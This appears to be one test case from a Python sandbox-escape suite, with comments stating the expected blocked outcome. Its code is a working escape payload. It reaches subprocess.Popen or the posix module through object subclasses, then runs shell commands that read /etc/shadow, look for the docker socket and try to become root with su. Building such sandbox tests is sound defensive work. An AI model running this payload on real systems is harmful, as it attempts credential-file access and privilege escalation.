# attack: finds subprocess.Popen among object's subclasses (or the posix module through the
#   BuiltinImporter subclass) and runs a shell that reads /etc/shadow, looks for the docker
#   socket and tries to become root with su
# expect: status in ok|error ; stdout lacks SHADOW-READ|DOCKER-SOCKET|BECAME-ROOT ; stdout lacks-match ^UID=0$
# escaped: stdout "route Popen\nUID=0\nSHADOW-READ\n"
SHELL = (
    'echo "UID=$(id -u)"; '
    'if cat /etc/shadow >/dev/null 2>&1; then echo SHADOW-READ; fi; '
    'if [ -e /var/run/docker.sock ] || [ -e /run/docker.sock ]; then echo DOCKER-SOCKET; fi; '
    'if [ "$(su -c "id -u" root </dev/null 2>/dev/null)" = 0 ]; then echo BECAME-ROOT; fi'
)
subclasses = ().__class__.__base__.__subclasses__()
popen = next((c for c in subclasses if c.__name__ == "Popen" and c.__module__ == "subprocess"), None)
ran = False
if popen is not None:
    try:
        print("route Popen")
        child = popen(["/bin/sh", "-c", SHELL], stdout=-1, stderr=-2)
        print(child.communicate(timeout=5)[0].decode("utf-8", "replace"), end="")
        ran = True
    except BaseException as exc:
        print("refused Popen", type(exc).__name__, exc)
if not ran:
    try:
        importer = next(c for c in subclasses if c.__name__ == "BuiltinImporter")
        posix = importer.load_module("posix")
        print("route BuiltinImporter -> posix")
        print("shell status", posix.system(SHELL))
    except BaseException as exc:
        print("refused posix.system", type(exc).__name__, exc)
